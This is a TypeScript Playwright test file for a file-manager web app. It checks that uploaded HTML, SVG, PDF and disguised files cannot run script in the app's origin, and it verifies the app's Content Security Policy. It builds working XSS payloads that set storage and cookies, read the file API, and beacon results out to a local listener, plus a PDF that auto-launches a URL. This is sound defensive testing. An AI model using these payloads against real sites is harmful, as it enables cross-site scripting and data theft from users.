import { once } from 'node:events';
import { writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { fillLogin, hasChromium, openAs, openBrowser } from './support/browser.js';
import { openFixture } from './support/fixture.js';
import { dialog, row, tryToOpen } from './support/screen.js';

/** A script in a file that would report each attack that succeeds. */
const attack = (beacon: string): string => `
  const tell = (what) => { new Image().src = '${beacon}/' + what; };
  try { localStorage.setItem('stolen', 'yes'); tell('storage'); } catch {}
  try { document.cookie = 'stolen=yes; path=/'; } catch {}
  try { window.stolen = true; top.stolen = true; parent.stolen = true; } catch {}
  try { fetch('/api/resources/').then((answer) => answer.text()).then(() => tell('files')); } catch {}
  tell('script');
`;

/** Requests that a page sends without a script. */
const lures = (beacon: string): string =>
  `<img src="${beacon}/img"><link rel="stylesheet" href="${beacon}/css"><iframe src="${beacon}/frame"></iframe>`;

function payloads(beacon: string): Record<string, string> {
  const script = attack(beacon);
  const html = `<!doctype html><title>x</title>${lures(beacon)}<script>${script}</script><img src="x" onerror="window.stolen=true">`;
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="window.stolen=true"><image href="${beacon}/image" width="1" height="1"/><script><![CDATA[${script}]]></script><foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml"><img src="${beacon}/foreign"/></body></foreignObject></svg>`;
  const xhtml = `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body><script><![CDATA[${script}]]></script></body></html>`;
  return {
    'page.html': html,
    'page.htm': html,
    'page.xhtml': xhtml,
    'data.xml': xhtml,
    'drawing.svg': svg,
    'program.js': script,
    'module.mjs': script,
    'notes.md': `# Hello\n\n${html}\n`,
    'paper.pdf': pdf(beacon),
    'photo.png': html,
    'sound.mp3': html,
    'sheet.css': `@import url(${beacon}/css);`,
    'no extension': html,
    'page.shtml': html,
    'page.mht': html,
  };
}

/** Opens an address by itself as soon as it is shown, if a viewer allows that. */
function pdf(beacon: string): string {
  return `%PDF-1.4
1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL\\('${beacon}/pdf'\\);)>>>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]>>endobj
trailer<</Root 1 0 R>>
%%EOF`;
}

describe.skipIf(!hasChromium)('the content of a file never acts in the origin of the app', () => {
  const fixture = openFixture();
  let page: Page;
  let listener: Server;
  let beacon: string;
  let heard: string[] = [];

  beforeAll(async () => {
    listener = createServer((request, response) => {
      heard.push(request.url ?? '');
      const isControl = request.url === '/control.html';
      response.setHeader('Content-Type', 'text/html').end(isControl ? payloads(beacon)['page.html'] : '');
    });
    listener.listen(0, '127.0.0.1');
    await once(listener, 'listening');
    beacon = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
    for (const [name, body] of Object.entries(payloads(beacon))) {
      await writeFile(join(fixture.satchel.root, name), body);
    }
    page = await openAs(fixture.browser, fixture.satchel);
  });

  afterAll(() => {
    listener?.closeAllConnections();
    listener?.close();
  });

  beforeEach(() => {
    heard = [];
  });

  const NAMES = Object.keys(payloads('http://beacon'));
  /** One file of each kind that the app shows itself. */
  const VIEWED = [
    'page.html',
    'drawing.svg',
    'program.js',
    'notes.md',
    'paper.pdf',
    'photo.png',
    'sound.mp3',
  ];
  const rawUrl = (name: string) => `/api/raw/${encodeURIComponent(name)}?inline=true`;

  /**
   * Checks, from a page of our origin without any script, what was stored in this origin and what was sent
   * elsewhere.
   */
  async function expectNothingStolen(): Promise<void> {
    expect(await page.evaluate(() => 'stolen' in window)).toBe(false);
    await page.goto('/health');
    expect(await page.evaluate(() => localStorage.getItem('stolen'))).toBeNull();
    expect((await page.context().cookies()).map(({ name }) => name)).not.toContain('stolen');
    expect(heard).toEqual([]);
  }

  test('the payload works without protection, so the checks below would notice it', async () => {
    const own = await openBrowser(fixture.browser, fixture.satchel);
    await own.goto(`${beacon}/control.html`);
    await expect.poll(() => heard).toEqual(expect.arrayContaining(['/script', '/storage', '/img', '/css']));
    expect(await own.evaluate(() => localStorage.getItem('stolen'))).toBe('yes');
    await own.context().close();
  });

  test('no code of the page can turn text into HTML or the address of a script', async () => {
    await page.goto('/404');
    await page.getByRole('button', { name: 'Go to my files' }).waitFor();
    const tries = await page.evaluate(() => {
      const attempt = (write: () => void): string => {
        try {
          write();
          return 'written';
        } catch (error) {
          return (error as Error).name;
        }
      };
      return [
        attempt(() => {
          document.createElement('div').innerHTML = '<b>bold</b>';
        }),
        attempt(() => {
          document.createElement('iframe').srcdoc = '<b>bold</b>';
        }),
        attempt(() => {
          document.createElement('script').src = '/static/own.js';
        }),
        attempt(() => void new DOMParser().parseFromString('<b>bold</b>', 'text/html')),
        attempt(() => document.createElement('div').insertAdjacentHTML('beforeend', '<b>bold</b>')),
      ];
    });
    expect(tries).toEqual(Array.from({ length: 5 }, () => 'TypeError'));
  });

  test.each(NAMES)('FB-63, FB-65, R-18: %s, opened by its address', async (name) => {
    // A file that is not shown is downloaded: then the page stays at its address.
    await tryToOpen(page, rawUrl(name));
    const opened = page.url().includes('/api/raw/');
    if (opened) expect(await page.evaluate(() => 'stolen' in window)).toBe(false);
    await expectNothingStolen();
  });

  test('R-18: all of them, embedded in a page of our origin as image, frame, object and script', async () => {
    await page.goto('/404');
    await page.getByRole('button', { name: 'Go to my files' }).waitFor();
    for (const name of NAMES)
      await page.evaluate(async (address) => {
        const ended = (element: HTMLElement) =>
          new Promise((resolve) => {
            element.onload = resolve;
            element.onerror = resolve;
            addEventListener('securitypolicyviolation', resolve, { once: true });
          });
        const make = (tag: string, attribute: string) => {
          const element = document.createElement(tag);
          const end = ended(element);
          try {
            element.setAttribute(attribute, address);
          } catch (error) {
            // Trusted Types do not even let the page set it as the address of a script.
            return (error as Error).name;
          }
          document.body.append(element);
          return end;
        };
        await Promise.all([
          make('img', 'src'),
          make('iframe', 'src'),
          make('object', 'data'),
          make('embed', 'src'),
          make('script', 'src'),
        ]);
      }, rawUrl(name));
    await expectNothingStolen();
  });

  test.each(VIEWED)('FB-60: %s, opened in the app', async (name) => {
    await page.goto(`/files/${encodeURIComponent(name)}`);
    await page
      .getByRole('textbox', { name })
      .or(dialog(page).getByRole('heading', { name }))
      .first()
      .waitFor();
    await page.waitForFunction(() => [...document.images].every((image) => image.complete));
    await expectNothingStolen();
  });

  test('R-20: the policy of the page allows only its own code', async () => {
    const policy = (await page.context().request.get('/')).headers()['content-security-policy'] ?? '';
    expect(policy).toContain("default-src 'none'");
    expect(policy).toMatch(/script-src 'self'(;| 'nonce| 'sha256)/);
    expect(policy).toContain("frame-ancestors 'none'");
    expect(policy).toContain("base-uri 'none'");
    expect(policy).not.toContain('unsafe-');
    expect(policy).not.toMatch(/(?:script|connect|default)-src[^;]*(?:\*|https?:)/);
  });

  test('the pages of the app never violate that policy', async () => {
    const own = await openBrowser(fixture.browser, fixture.satchel);
    const refused: string[] = [];
    own.on('console', (message) => {
      if (/Content Security Policy/i.test(message.text())) refused.push(message.text());
    });
    own.on('pageerror', (error) => refused.push(String(error)));
    await own.goto('/');
    await fillLogin(own, { username: 'admin', password: fixture.satchel.password });
    await row(own, 'notes.md').waitFor();
    await own.keyboard.press('F1');
    await dialog(own).waitFor();
    await own.keyboard.press('Escape');
    await row(own, 'program.js').dblclick();
    await own.getByRole('textbox', { name: 'program.js' }).waitFor();
    await own.keyboard.press('Control+f');
    await own.getByRole('textbox', { name: 'Find' }).waitFor();
    await own.goto('/settings/profile');
    await own.getByRole('heading', { name: 'Profile settings' }).waitFor();
    expect(refused).toEqual([]);
    await own.context().close();
  });
});
